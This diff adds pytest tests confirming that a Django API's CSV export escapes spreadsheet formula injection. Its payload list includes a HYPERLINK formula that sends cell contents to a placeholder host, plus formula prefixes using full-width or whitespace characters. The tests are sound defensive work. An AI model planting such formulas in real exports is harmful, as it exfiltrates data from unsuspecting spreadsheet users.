@@ -710,3 +710,97 @@ def test_json_depth_check_counts_containers():
     assert json_depth_exceeds({"a": [1, {"b": []}]}, 3)
     assert not json_depth_exceeds("scalar", 0)
     assert json_depth_exceeds(json.loads(_nested(900)), 899)
+
+
+# -- CSV formula injection --------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "'=already quoted",
+]
+
+
+def _csv_rows(api, query: str = "") -> list[dict]:
+    import csv
+    import io
+
+    response = api.get(f"{PROPOSALS}?format=csv{query}")
+    assert response.status_code == 200
+    raw = b"".join(response.streaming_content) if response.streaming else response.content
+    assert raw.startswith(b"\xef\xbb\xbf")
+    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+
+
+def test_a_formula_title_is_exported_as_text(api, proposal):
+    title = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
+    Proposal.objects.filter(pk=proposal.pk).update(title=title)
+    (row,) = _csv_rows(api)
+    assert row["title"] == "'" + title
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_csv_neutralises_formulas_in_every_text_column(api, db, value):
+    from proposals.models import Actor, Topic, Venue
+    from tests.factories import ActorFactory, TopicFactory, VenueFactory
+
+    venue = VenueFactory(name=value)
+    lead = ActorFactory(name=value)
+    topic = TopicFactory(slug="formula-topic")
+    ProposalFactory(
+        slug="formula",
+        title=value,
+        venue=venue,
+        proponents=[{"actor": lead, "role": "proposed", "is_primary": True}],
+        topics=[topic],
+    )
+    assert Actor.objects.filter(name=value).exists() and Venue.objects.filter(name=value).exists()
+    assert Topic.objects.filter(pk=topic.pk).exists()
+    (row,) = _csv_rows(api)
+    for column in ("title", "venue", "primary_proponent", "proponents"):
+        assert row[column].startswith("'" + value), (column, row[column])
+        assert row[column][1:].startswith(value)
+    assert row["slug"] == "formula"
+
+
+def test_harmless_cells_are_exported_unchanged(api, proposal):
+    (row,) = _csv_rows(api)
+    assert row["title"] == "Anti-extremism treaty"
+    assert row["venue"] == "SCO summit"
+    assert row["proposed_on"] == "2015-12-15"
+    assert row["venue_id"] == str(proposal.venue_id)
+
+
+def test_csv_keeps_non_ascii_names_readable(api, proposal):
+    Proposal.objects.filter(pk=proposal.pk).update(title="“Curly” 上海合作组织")
+    (row,) = _csv_rows(api)
+    assert row["title"] == "“Curly” 上海合作组织"
+
+
+@pytest.mark.parametrize("value", [*FORMULAS, "plain", "", "'", "''", "a=b", 42, None])
+def test_csv_cell_escaping_is_reversible(value):
+    from proposals.api.renderers import csv_cell
+
+    cell = csv_cell(value)
+    if isinstance(value, str) and value:
+        assert cell[:1] not in "=+-@\t\r\n＝＋－＠"
+        restored = cell[1:] if cell.startswith("'") else cell
+        assert restored == value
+    else:
+        assert cell == value
+
+
+def test_the_generic_csv_renderer_escapes_too():
+    from proposals.api.renderers import CSVRenderer
+
+    out = CSVRenderer().render([{"slug": "s", "title": "=1+1"}]).decode("utf-8-sig")
+    assert out.splitlines()[1].startswith("s,'=1+1")
